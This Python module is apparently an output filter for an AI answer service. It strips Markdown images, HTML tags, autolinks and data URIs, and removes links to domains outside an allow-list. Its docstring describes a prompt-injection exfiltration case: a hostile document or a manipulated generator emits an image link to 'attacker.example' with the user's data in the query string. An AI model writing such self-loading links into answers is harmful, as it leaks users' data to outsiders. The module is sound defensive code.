"""What an answer may point at: the last filter before text leaves the server.

A client renders answers as Markdown or HTML. An image there loads by itself, so a hostile document
that holds `![logo](https://attacker.example/p.png?d=...)` — or a generator talked into writing one
with the user's data in its query string — sends data out the moment the answer is shown, with no
click. So, whatever the sources say:

- Markdown images (inline and by reference), HTML tags, autolinks (`<https://…>`) and data URIs are
  removed: nothing in an answer loads anything by itself.
- A link survives only to a domain of `answer.allowed_link_domains` (or one of its subdomains), plus
  the tenant's own list (`answer.tenant_link_domains`); a Markdown link to any other domain keeps its
  words and loses its target, and a bare URL to one is removed. Only http(s) links survive.
- That a surviving link is written exactly as a trusted source writes it (no query string or
  fragment added) is the validator's rule (citadel/answer/validator.py keeps a URL only when it occurs
  in a source that supports the sentence); this filter runs after it, on every path: single-shot
  answers, a run's final answer and notes, and so on every token event cut from them.

Every pattern is linear-time (citadel.regex) and the text is bounded by the answer's own length.
"""

from __future__ import annotations

from collections.abc import Iterable, Mapping
from dataclasses import dataclass, field
from urllib.parse import urlsplit

from citadel import regex

# An inline image `![alt](target "title")` or one by reference `![alt][ref]` / `![alt]`.
MARKDOWN_IMAGE = regex.compile(
    "answer.links.markdown_image", r"!\[[^\]\n]{0,1000}\](?:\([^)\n]*\)|\[[^\]\n]{0,200}\])?")
# A reference definition line `[ref]: target "title"`: it makes `[text][ref]` a link (or an image).
LINK_DEFINITION = regex.compile(
    "answer.links.link_definition", r"^[ \t]{0,3}\[[^\]\n]{1,200}\]:[ \t]*[^\s]+[^\n]{0,400}$",
    regex.MULTILINE)
# An inline link `[words](target "title")`.
MARKDOWN_LINK = regex.compile(
    "answer.links.markdown_link",
    r"\[(?P<words>[^\]\n]{0,1000})\]\((?P<target>[^)\s]*)(?:[ \t]+\"[^\"\n]{0,400}\")?\)")
# `<https://…>` (an autolink), and any HTML tag or comment (`<img src=…>`, `<a href=…>`, `<script>`).
AUTOLINK = regex.compile("answer.links.autolink", r"<[A-Za-z][A-Za-z0-9+.-]{1,31}:[^<>\s]*>")
HTML_TAG = regex.compile("answer.links.html_tag", r"</?[A-Za-z][^<>]*>|<!--|-->")
DATA_URI = regex.compile("answer.links.data_uri", r"\bdata:[a-z]{1,20}/[a-z0-9.+-]{1,60}[^\s)\]>\"']*",
                         regex.IGNORECASE)
# A bare URL, as the validator reads one.
BARE_URL = regex.compile("answer.links.bare_url", r"(?:https?://|www\.)[^\s<>\"'\]\)]+", regex.IGNORECASE)
URL_TRAILING = ".,;:!?"
# What a removed URL leaves when it was written in brackets ("the portal (https://…)").
EMPTY_BRACKETS = regex.compile("answer.links.empty_brackets", r"[ \t]*(?:\(\s*\)|\[\s*\]|<\s*>)")
SPACE_RUN = regex.compile("answer.links.space_run", r"[ \t]{2,}")
SPACE_BEFORE_PUNCTUATION = regex.compile("answer.links.space_before_punctuation", r"[ \t]+([.,;:!?])")
SAFE_SCHEMES = ("http", "https")
MAX_DOMAINS = 1_000


def host_of(url: str) -> str | None:
    """The URL's host, lowercased (a `www.` URL without a scheme is read as http); None when it has
    none or its scheme is not http(s)."""
    candidate = f"http://{url}" if url[:4].lower() == "www." else url
    try:
        parts = urlsplit(candidate)
        host = parts.hostname
    except ValueError:
        return None
    if parts.scheme.lower() not in SAFE_SCHEMES or not host:
        return None
    return host.lower().rstrip(".")


def _domains(values: Iterable[str]) -> frozenset[str]:
    domains = {str(v).strip().lower().strip(".") for v in list(values)[:MAX_DOMAINS]}
    return frozenset(d for d in domains if d)


@dataclass(frozen=True)
class LinkPolicy:
    """The domains an answer may link to: the deployment's and each tenant's own."""

    allowed: frozenset[str] = frozenset()
    by_tenant: Mapping[str, frozenset[str]] = field(default_factory=dict)

    @classmethod
    def from_config(cls, answer) -> "LinkPolicy":
        tenants = {tenant: _domains(domains) for tenant, domains in dict(answer.tenant_link_domains).items()}
        return cls(_domains(answer.allowed_link_domains), tenants)

    def allows(self, url: str, tenant_id: str) -> bool:
        host = host_of(url)
        if host is None:
            return False
        domains = self.allowed | self.by_tenant.get(tenant_id, frozenset())
        return any(host == d or host.endswith(f".{d}") for d in domains)

    def clean(self, text: str, tenant_id: str) -> str:
        """`text` with nothing that loads by itself and no link to a domain outside the policy."""
        if not text or not any(mark in text for mark in ("![", "](", "]:", "<", ">", "://", "www.", "data:")):
            return text  # the common case: plain prose with markers, nothing to look at
        cleaned = MARKDOWN_IMAGE.sub("", text)
        cleaned = LINK_DEFINITION.sub("", cleaned)
        cleaned = MARKDOWN_LINK.sub(lambda m: self._link(m.group("words"), m.group("target"), tenant_id), cleaned)
        cleaned = AUTOLINK.sub("", cleaned)
        cleaned = HTML_TAG.sub("", cleaned)
        cleaned = DATA_URI.sub("", cleaned)
        cleaned = BARE_URL.sub(lambda m: self._bare(m.group(0), tenant_id), cleaned)
        cleaned = EMPTY_BRACKETS.sub("", cleaned)
        cleaned = SPACE_BEFORE_PUNCTUATION.sub(r"\1", SPACE_RUN.sub(" ", cleaned))
        return cleaned.strip()

    def _link(self, words: str, target: str, tenant_id: str) -> str:
        """An allowed link kept as it was written; any other keeps its words only."""
        if self.allows(target, tenant_id):
            return f"[{words}]({target})"
        return words

    def _bare(self, url: str, tenant_id: str) -> str:
        link = url.rstrip(URL_TRAILING)
        trailing = url[len(link):]
        return url if self.allows(link, tenant_id) else trailing
